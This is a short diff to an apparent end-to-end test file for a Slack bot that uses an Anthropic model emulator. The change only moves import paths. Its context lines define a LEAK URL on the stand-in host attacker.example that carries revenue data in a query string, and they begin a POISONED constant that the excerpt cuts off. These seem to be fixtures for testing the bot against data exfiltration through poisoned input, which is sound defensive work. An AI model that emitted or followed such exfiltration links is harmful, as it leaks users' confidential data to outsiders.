@@ -6,10 +6,10 @@ from __future__ import annotations
 import pytest
 
 from bot.slack.safe_text import INERT_AT
+from emulators.anthropic import AnthropicEmulator, Python, Say, Script
+from emulators.slack import SlackEmulator
 from tests.e2e.conftest import StartBot
 from tests.e2e.helpers import wait_finished
-from tests.emulators.anthropic import AnthropicEmulator, Python, Say, Script
-from tests.emulators.slack import SlackEmulator
 
 LEAK = "https://attacker.example/collect?data=Q3-revenue-4.2M"
 POISONED = (
